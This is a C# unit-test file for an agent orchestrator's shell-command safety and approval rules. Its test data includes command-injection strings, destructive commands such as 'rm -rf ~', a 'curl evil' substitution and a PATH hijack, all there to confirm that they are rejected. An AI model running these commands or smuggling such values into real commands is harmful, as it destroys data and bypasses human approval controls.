using Orchestrator.Core.Exec;
using Orchestrator.Core.Orchestration.Approvals;

namespace Orchestrator.Core.Tests.Orchestration;

[TestClass]
public sealed class SafeCommandsTests
{
    [TestMethod]
    [DataRow("ls -la")]
    [DataRow("git status --short")]
    [DataRow("find . -name '*.cs'")]
    [DataRow("git log HEAD~1 --format=\"%h %s\"")]
    [DataRow("[ -f README.md ]")]
    public void ReadingCommandsAreSafe(string line) => Assert.IsTrue(SafeCommands.IsSafe(CommandSpec.FromShell(line)), line);

    [TestMethod]
    [DataRow("rm -rf build")]
    [DataRow("echo x > file")]
    [DataRow("ls $(touch pwned)")]
    [DataRow("ls `touch pwned`")]
    [DataRow("ls & touch pwned")]
    [DataRow("git push")]
    [DataRow("find . -delete")]
    [DataRow("find . -exec rm {} +")]
    [DataRow("cat x; make")]
    [DataRow("env rm -rf build")]
    [DataRow("sort -o out.txt in.txt")]
    [DataRow("uniq in.txt out.txt")]
    [DataRow("git diff --output=patch.diff")]
    [DataRow("git branch -D main")]
    [DataRow("find . -okdir rm {} ;")]
    public void AnythingThatCouldChangeStateIsNot(string line) => Assert.IsFalse(SafeCommands.IsSafe(CommandSpec.FromShell(line)), line);

    /// <summary>The safe list follows the config rules' rule: one plain command, nothing the shell would add.</summary>
    [TestMethod]
    [DataRow("cat README.md | grep -c Orchestrator")]
    [DataRow("dotnet --info && git log -1")]
    [DataRow("ls\ntouch pwned")]
    [DataRow("ls\rtouch pwned")]
    [DataRow("ls $HOME")]
    [DataRow("cat *")]
    [DataRow("ls # comment")]
    [DataRow("PATH=./bin ls")]
    public void AShellLineThatIsNotOnePlainCommandIsNotSafe(string line) => Assert.IsFalse(SafeCommands.IsSafe(CommandSpec.FromShell(line)), line);

    /// <summary>Quotes are removed before the options are judged, as the shell removes them before find sees them.</summary>
    [TestMethod]
    [DataRow("find . '-delete'")]
    [DataRow("find . \"-exec\" rm {} +")]
    [DataRow("sort '-o' out.txt in.txt")]
    public void AQuotedWritingOptionIsStillAWritingOption(string line) => Assert.IsFalse(SafeCommands.IsSafe(CommandSpec.FromShell(line)), line);

    [TestMethod]
    public void ArgvCommandsAndConfiguredPrefixesAreMatchedByTokens()
    {
        Assert.IsTrue(SafeCommands.IsSafe(CommandSpec.FromArgv("/usr/bin/git", "diff", "HEAD~1")));
        Assert.IsFalse(SafeCommands.IsSafe(CommandSpec.FromArgv("make", "-n")));
        Assert.IsTrue(SafeCommands.IsSafe(CommandSpec.FromArgv("make", "-n", "all"), [["make", "-n"]]));
    }

    [TestMethod]
    public void ARulePrefixMatchesTheProgramByNameButNeverApprovesWhatAShellLineAddsAfterIt()
    {
        var rule = new PreApproval(["dotnet", "restore"], ApprovalAction.Escalate, ApprovalScope.Persistent, null, "test");

        Assert.IsTrue(rule.Matches(ApprovalAction.Escalate, ["/usr/bin/dotnet", "restore", "--locked-mode"]));
        Assert.IsTrue(MatchesLine(rule, "dotnet restore --locked-mode"));
        Assert.IsTrue(MatchesLine(rule, "dotnet  restore \"--source\" 'my feed'"), "quotes only group words");
        Assert.IsFalse(MatchesLine(rule, "dotnet restore && rm -rf ~"));
        Assert.IsFalse(MatchesLine(rule, "dotnet restore > /etc/x"));
        Assert.IsFalse(MatchesLine(rule, "dotnet restore $(curl evil)"));
        Assert.IsFalse(rule.Matches(ApprovalAction.Run, ["dotnet", "restore"]));
        Assert.IsFalse(rule.Matches(ApprovalAction.Escalate, ["dotnet", "build"]));
    }

    [TestMethod]
    public void AProgramTheCheckoutSuppliesMatchesNoRuleAndIsNeverSafe()
    {
        const string Tree = "/src/app";
        var rule = new PreApproval(["dotnet", "restore"], ApprovalAction.Escalate, ApprovalScope.Persistent, null, "test");

        Assert.IsTrue(rule.Matches(ApprovalAction.Escalate, ["/usr/share/dotnet/dotnet", "restore"], workingTree: Tree), "a system path is the program by its name");
        Assert.IsFalse(rule.Matches(ApprovalAction.Escalate, ["./pr-tools/dotnet", "restore"], workingTree: Tree), "a relative path is the checkout's");
        Assert.IsFalse(rule.Matches(ApprovalAction.Escalate, ["pr-tools/dotnet", "restore"], workingTree: Tree));
        Assert.IsFalse(rule.Matches(ApprovalAction.Escalate, ["/src/app/tools/../pr-tools/dotnet", "restore"], workingTree: Tree), "an absolute path inside the tree is the checkout's");
        Assert.IsTrue(rule.Matches(ApprovalAction.Escalate, ["/src/application/dotnet", "restore"], workingTree: Tree), "a sibling whose name starts like the tree is outside it");

        var byPath = new PreApproval(["/src/app/eng/restore.sh"], ApprovalAction.Escalate, ApprovalScope.Persistent, null, "test");
        Assert.IsTrue(byPath.Matches(ApprovalAction.Escalate, ["/src/app/eng/restore.sh"], workingTree: Tree), "a rule that names the path itself matches it");
        Assert.IsFalse(byPath.Matches(ApprovalAction.Escalate, ["/elsewhere/restore.sh"], workingTree: Tree));

        Assert.IsFalse(SafeCommands.IsSafe(CommandSpec.FromArgv("./cat", "README.md"), workingTree: Tree));
        Assert.IsFalse(SafeCommands.IsSafe(CommandSpec.FromShell("bin/ls -la"), workingTree: Tree));
        Assert.IsFalse(SafeCommands.IsSafe(CommandSpec.FromArgv("/src/app/bin/git", "status"), workingTree: Tree));
        Assert.IsTrue(SafeCommands.IsSafe(CommandSpec.FromArgv("/usr/bin/git", "status"), workingTree: Tree));
    }

    /// <summary>
    /// Every character or form the shell would turn into a second command, a redirection, a
    /// substitution or an expansion makes a config rule not match, quoted or not: the safe direction.
    /// </summary>
    [TestMethod]
    [DataRow("dotnet restore --help\ntouch /var/tmp/x", "newline")]
    [DataRow("dotnet restore --help\rtouch /var/tmp/x", "carriage return")]
    [DataRow("dotnet restore\u000btouch x", "vertical tab")]
    [DataRow("dotnet restore\u000ctouch x", "form feed")]
    [DataRow("dotnet restore \u001b[2K", "escape")]
    [DataRow("dotnet restore\u0085touch x", "next line (C1)")]
    [DataRow("dotnet restore\u2028touch x", "line separator")]
    [DataRow("dotnet restore; touch x", "semicolon")]
    [DataRow("dotnet restore & touch x", "background")]
    [DataRow("dotnet restore && touch x", "and")]
    [DataRow("dotnet restore || touch x", "or")]
    [DataRow("dotnet restore | tee x", "pipe")]
    [DataRow("dotnet restore `touch x`", "backquote")]
    [DataRow("dotnet restore $(touch x)", "command substitution")]
    [DataRow("dotnet restore \"$(touch x)\"", "substitution in double quotes")]
    [DataRow("dotnet restore $HOME", "parameter expansion")]
    [DataRow("dotnet restore ${X:=y}", "braced expansion")]
    [DataRow("dotnet restore $((1+1))", "arithmetic")]
    [DataRow("dotnet restore < x", "input redirection")]
    [DataRow("dotnet restore > x", "output redirection")]
    [DataRow("dotnet restore <<EOF", "here-document")]
    [DataRow("dotnet restore (x)", "subshell parenthesis")]
    [DataRow("dotnet restore ';'", "quoted separator")]
    [DataRow("dotnet restore \\; touch x", "backslash")]
    [DataRow("dotnet restore *", "glob star")]
    [DataRow("dotnet restore ?", "glob question mark")]
    [DataRow("dotnet restore x[ab]", "glob bracket")]
    [DataRow("dotnet restore {a,b}", "brace expansion")]
    [DataRow("dotnet restore # x", "comment")]
    [DataRow("dotnet restore ~/feed", "tilde")]
    [DataRow("dotnet restore --source=~/feed", "tilde after =")]
    [DataRow("PATH=./evil/dotnet restore", "assignment before the program")]
    [DataRow("dotnet restore 'unterminated", "unterminated quote")]
    public void AConfigRuleDoesNotMatchAShellLineWithShellSyntax(string line, string what)
    {
        var rule = new PreApproval(["dotnet", "restore"], ApprovalAction.Escalate, ApprovalScope.Persistent, null, "test");

        Assert.IsFalse(MatchesLine(rule, line), what);
        Assert.IsFalse(ApprovalSubject.IsPlain(CommandSpec.FromShell(line)), what);
    }

    private static bool MatchesLine(PreApproval rule, string line)
    {
        var command = CommandSpec.FromShell(line);
        return rule.Matches(ApprovalAction.Escalate, ApprovalSubject.Tokens(command), ApprovalSubject.IsPlain(command));
    }
}
